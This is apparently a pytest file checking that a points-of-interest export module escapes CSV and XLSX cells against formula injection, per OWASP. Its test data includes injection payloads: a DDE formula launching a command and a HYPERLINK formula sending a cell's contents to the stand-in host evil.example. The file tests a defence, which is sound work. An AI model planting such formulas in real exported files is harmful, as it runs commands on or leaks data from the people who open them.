"""Spreadsheet cells: a POI's text never runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from api.exports import csv_cell, to_csv, to_xlsx

# (value, CSV cell): OWASP's examples and the ordinary cells they must not touch
CELLS = [
    ("=1+1", "'=1+1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        '\'=HYPERLINK("http://evil.example/?"&A1,"Voir")',
    ),
    ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("contact@boulangerie-martin.fr", "contact@boulangerie-martin.fr"),
    ("Boulangerie Martin", "Boulangerie Martin"),
    ("a=b", "a=b"),
    ("", ""),
    (None, ""),
    (-5, -5),
    (12.5, 12.5),
    (["=1+1", "b"], "'=1+1, b"),
]


@pytest.mark.parametrize(("value", "expected"), CELLS)
def test_csv_cells(value, expected):
    assert csv_cell(value) == expected


def test_csv_neutralises_headers_and_cells():
    text = to_csv([{"=x": "=1+1", "email": "a@b.fr"}], ";")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["'=x", "email"], ["'=1+1", "a@b.fr"]]


@pytest.mark.parametrize(("value", "_"), CELLS)
def test_xlsx_cells_are_text_with_their_value(value, _):
    sheet = load_workbook(io.BytesIO(to_xlsx([{"v": value}]))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type != "f"  # never a formula
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)
